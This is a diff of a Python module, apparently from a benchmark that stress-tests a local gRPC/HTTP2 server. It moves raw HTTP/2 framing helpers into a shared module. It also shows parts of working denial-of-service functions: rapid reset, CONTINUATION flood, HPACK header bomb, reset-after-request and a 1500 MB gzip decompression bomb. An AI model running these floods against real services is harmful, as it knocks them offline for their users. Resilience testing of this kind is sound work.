@@ -10,183 +10,29 @@ from __future__ import annotations
 import contextlib
 import gzip
 import os
-import socket
 import struct
 import time
 from collections.abc import Iterable, Iterator, Sequence
-from typing import Optional
 
-METHOD = "/baidu.paddle_serving.pipeline_serving.PipelineService/inference"
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
-INITIAL_WINDOW = 4  # the setting
-# What may wait in this process for the server to read it.
-_SEND_BUFFER = 1 << 16
-_PATIENCE_S = 10.0
-
-
-def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """One frame (RFC 9113, 4.1)."""
-    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
-
-
-def literal(name: str, value: str) -> bytes:
-    """A header field, neither indexed nor compressed (RFC 7541, 6.2.2)."""
-    return b"\x00" + _text(name) + _text(value)
-
-
-def _text(value: str) -> bytes:
-    data = value.encode()
-    return _integer(len(data), 7) + data
-
-
-def _integer(value: int, bits: int) -> bytes:
-    """RFC 7541, 5.1; the bits above are 0."""
-    most = (1 << bits) - 1
-    if value < most:
-        return bytes([value])
-    out, value = [most], value - most
-    while value >= 128:
-        out.append(value % 128 + 128)
-        value //= 128
-    return bytes([*out, value])
-
-
-def call_headers(method: str = METHOD, more: Sequence[tuple[str, str]] = ()) -> bytes:
-    """The header block of a call."""
-    fields = [
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":path", method),
-        (":authority", "x"),
-        ("te", "trailers"),
-        ("content-type", "application/grpc"),
-        *more,
-    ]
-    return b"".join(literal(name, value) for name, value in fields)
-
-
-def begin(stream: int, block: Optional[bytes] = None, flags: int = END_HEADERS) -> bytes:
-    """The HEADERS frame of a call whose message does not come with it."""
-    return frame(HEADERS, flags, stream, call_headers() if block is None else block)
-
-
-def message(data: bytes, compressed: bool = False) -> bytes:
-    """A gRPC message with its prefix of five bytes."""
-    return struct.pack(">BI", compressed, len(data)) + data
-
-
-def settings(*pairs: tuple[int, int]) -> bytes:
-    """A SETTINGS frame of (identifier, value)."""
-    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))
-
-
-class Connection:
-    """One connection that has sent its preface, with `pairs` of settings.
-
-    answer: what has been read of the server's frames, without what `drain` threw away.
-    ended: the calls that the server has reset.
-    """
-
-    def __init__(self, port: int, *pairs: tuple[int, int], preface: bool = True) -> None:
-        self.socket = socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE_S)
-        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _SEND_BUFFER)
-        self.answer = b""
-        self.ended: set[int] = set()
-        self._parsed = 0
-        self._first_window = 65_535
-        self._windows = {0: 65_535}
-        if preface:
-            self.send(PREFACE + settings(*pairs))
-
-    def send(self, data: bytes) -> bool:
-        """Whether the server still takes what is sent."""
-        try:
-            self.socket.sendall(data)
-        except OSError:  # reset, closed, or not read for `_PATIENCE_S`
-            return False
-        return True
-
-    def send_message(self, stream: int, data: bytes, last: bool = True) -> bool:
-        """DATA frames, no more than the server has given leave for; whether all were sent."""
-        size = 16_384
-        for start in range(0, len(data), size):
-            part = data[start : start + size]
-            while self._room(stream) < len(part):
-                if stream in self.ended or not self.receive():
-                    return False
-            for window in (0, stream):
-                self._windows[window] = self._room(window) - len(part)
-            end = last and start + size >= len(data)
-            if not self.send(frame(DATA, END_STREAM if end else 0, stream, part)):
-                return False
-        return True
-
-    def _room(self, stream: int) -> int:
-        return self._windows.setdefault(stream, self._first_window)
-
-    def receive(self) -> bool:
-        """Wait for more frames; False at the end of the connection or of patience."""
-        try:
-            part = self.socket.recv(1 << 16)
-        except OSError:
-            return False
-        self.answer += part
-        while len(self.answer) >= self._parsed + 9:
-            head = self.answer[self._parsed : self._parsed + 9]
-            size = int.from_bytes(head[:3], "big")
-            if len(self.answer) < self._parsed + 9 + size:
-                break
-            payload = self.answer[self._parsed + 9 : self._parsed + 9 + size]
-            self._parsed += 9 + size
-            self._take(head[3], head[4], int.from_bytes(head[5:], "big"), payload)
-        return bool(part)
-
-    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
-        if kind == WINDOW_UPDATE:
-            self._windows[stream] = self._room(stream) + int.from_bytes(payload, "big")
-        elif kind == RST_STREAM:
-            self.ended.add(stream)
-        elif kind == SETTINGS and not flags & ACK:
-            for start in range(0, len(payload), 6):
-                name, value = struct.unpack_from(">HI", payload, start)
-                if name == INITIAL_WINDOW:
-                    grown = value - self._first_window
-                    self._first_window = value
-                    self._windows.update({s: w + grown for s, w in self._windows.items() if s})
-            self.send(frame(SETTINGS, ACK, 0))
-
-    def drain(self) -> bool:
-        """Throw away what has arrived; whether the server still holds the connection."""
-        self.socket.settimeout(0)
-        try:
-            while data := self.socket.recv(1 << 20):
-                pass
-        except (BlockingIOError, InterruptedError):
-            return True
-        except OSError:
-            return False
-        finally:
-            self.socket.settimeout(_PATIENCE_S)
-        return bool(data)
-
-    def flood(self, parts: Iterable[bytes], seconds: float, reads: bool = False) -> int:
-        """Send one part after the other for so long; how many were sent.
-
-        reads: whether the server's answers are taken off the socket.
-        """
-        end, sent = time.monotonic() + seconds, 0
-        self.socket.settimeout(min(_PATIENCE_S, seconds))
-        for part in parts:
-            if time.monotonic() > end or not self.send(part) or (reads and not self.drain()):
-                break
-            sent += 1
-        return sent
-
-    def close(self) -> None:
-        """Hang up."""
-        self.socket.close()
+from bench.attacking.http2 import (
+    CONTINUATION,
+    DATA,
+    INITIAL_WINDOW,
+    PATIENCE_S,
+    PING,
+    RST_STREAM,
+    WINDOW_UPDATE,
+    Connection,
+    begin,
+    call,
+    call_headers,
+    data_frames,
+    frame,
+    literal,
+    message,
+    settings,
+    text,
+)
 
 
 @contextlib.contextmanager
@@ -276,18 +122,8 @@ def answers_not_read(
         for connection in connections:
             for number in range(each):
                 stream = 2 * number + 1
-                connection.send(begin(stream) + _data(stream, message(request)))
+                connection.send(begin(stream) + data_frames(stream, message(request)))
         yield connections
-
-
-def _data(stream: int, data: bytes) -> bytes:
-    size = 16_384
-    parts = [data[start : start + size] for start in range(0, len(data), size)] or [b""]
-    last = len(parts) - 1
-    return b"".join(
-        frame(DATA, END_STREAM if place == last else 0, stream, part)
-        for place, part in enumerate(parts)
-    )
 
 
 def rapid_reset(port: int, seconds: float = 3.0) -> int:
@@ -352,7 +188,7 @@ def continuation_flood(port: int, seconds: float = 3.0) -> int:
 
 def header_bomb(port: int, seconds: float = 3.0) -> int:
     """Header blocks that name one large entry of the table over and over; how many calls."""
-    entry = b"\x40" + _text("x-bomb") + _text("b" * 3900)
+    entry = b"\x40" + text("x-bomb") + text("b" * 3900)
     first = call_headers() + entry
 
     def parts() -> Iterator[bytes]:
@@ -370,7 +206,7 @@ def reset_after_request(port: int, request: bytes, seconds: float = 3.0) -> int:
         for stream in range(1, 2**31 - 2, 2):
             yield (
                 begin(stream)
-                + _data(stream, message(request))
+                + data_frames(stream, message(request))
                 + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
             )
 
@@ -399,26 +235,10 @@ def garbage(port: int, seconds: float = 3.0) -> int:
     return made
 
 
-def gzip_bomb(port: int, megabytes: int = 1500, seconds: float = _PATIENCE_S) -> bytes:
+def gzip_bomb(port: int, megabytes: int = 1500, seconds: float = PATIENCE_S) -> bytes:
     """A small message that unpacks to a large one; what the server answered, as it came."""
     packed = gzip.compress(bytes(megabytes << 20), 1)
     return call(port, message(packed, compressed=True), seconds, [("grpc-encoding", "gzip")])
-
-
-def call(
-    port: int, data: bytes, seconds: float = _PATIENCE_S, more: Sequence[tuple[str, str]] = ()
-) -> bytes:
-    """A whole call with these bytes as its DATA; what the server answered, as it came."""
-    connection = Connection(port)
-    try:
-        connection.socket.settimeout(seconds)
-        connection.send(begin(1, call_headers(more=more)))
-        connection.send_message(1, data)
-        while b"grpc-status" not in connection.answer and connection.receive():
-            pass
-    finally:
-        connection.close()
-    return connection.answer
 
 
 def _endless(part: bytes) -> Iterator[bytes]:
